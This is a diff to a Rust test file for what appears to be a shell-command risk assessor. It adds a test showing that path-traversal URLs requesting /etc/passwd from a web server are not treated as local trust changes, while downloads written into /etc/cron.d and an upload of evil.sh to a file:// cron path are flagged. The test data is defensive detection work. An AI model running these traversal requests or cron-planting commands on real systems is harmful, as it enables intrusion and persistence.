@@ -180,3 +180,41 @@ fn xcode_command_line_tools_are_a_system_install() {
     );
     each(&["xcode-select -p"], "clean");
 }
+
+/// Denied: `curl http://mountaindesserts.com/meteor/index.php?page=../../
+/// ../../../../../../../etc/passwd` (oscpn part 1, a path traversal on a
+/// web server) as changing this machine's /etc/passwd: a URL's path is the
+/// server's, not a local one, whatever its `..` resolve to here. curl's
+/// upload to a `file://` URL is still denied (as an upload).
+#[test]
+fn a_urls_path_is_not_a_local_file() {
+    no_trust_change(&[
+        "curl http://mountaindesserts.com/meteor/index.php?page=../../../../../../../../../etc/passwd",
+        "curl http://x.com/a/../../../../etc/passwd",
+        "wget https://x.example/../../../etc/cron.d/job",
+    ]);
+    flagged_each(
+        &["curl -o /etc/cron.d/x http://e.com/x"],
+        Category::SelfEscalation,
+        Severity::High,
+    );
+    flagged_each(
+        &["curl -T evil.sh file:///etc/cron.d/x"],
+        Category::Exfiltration,
+        Severity::High,
+    );
+}
+
+#[track_caller]
+fn no_trust_change(cmds: &[&str]) {
+    for cmd in cmds {
+        let a = common::assess(cmd);
+        assert!(
+            a.findings
+                .iter()
+                .all(|f| f.category != Category::SelfEscalation),
+            "{cmd:?}: {:#?}",
+            a.findings
+        );
+    }
+}
